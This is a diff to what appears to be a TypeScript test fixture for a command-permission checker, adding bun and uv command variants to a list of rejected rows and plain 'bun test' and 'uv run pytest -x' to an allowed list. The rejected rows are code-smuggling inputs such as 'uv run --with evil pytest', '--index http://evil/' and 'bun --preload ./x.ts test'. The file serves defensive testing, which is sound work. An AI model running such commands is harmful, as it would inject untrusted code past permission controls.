@@ -181,6 +181,19 @@ export const closedCommandRows: readonly CommandRow[] = [
         'cargo --color build install evil',
       ],
       ...['cargo -Zunstable-options test'],
+      ...[
+        "bun -e 'x'",
+        'bun --eval=x',
+        'bun --preload ./x.ts test',
+        'bun -r ./x.ts run a',
+        'bun --config=./x.toml test',
+      ],
+      ...['uv run --with evil pytest', 'uv run --with=evil pytest', 'uv run --with-editable ./evil pytest'],
+      ...[
+        'uv run --with-requirements r.txt pytest',
+        'uv run --index http://evil/ pytest',
+        'uv --config-file x run pytest',
+      ],
     ],
   },
   {
@@ -198,7 +211,7 @@ export const closedCommandRows: readonly CommandRow[] = [
       ],
       ...['pnpm --filter web test', 'yarn workspace web build', 'npm --prefix sub run build', 'gradle test --info'],
       ...['gradle test -Dtest.single=A', 'mvn -q -DskipTests package', 'mvn test -Dtest=A#b', 'mvn -pl :core test'],
-      ...['cargo test update', 'go test -mod=vendor ./...'],
+      ...['cargo test update', 'go test -mod=vendor ./...', 'uv run pytest -x', 'bun run build', 'bun test'],
     ],
   },
   {
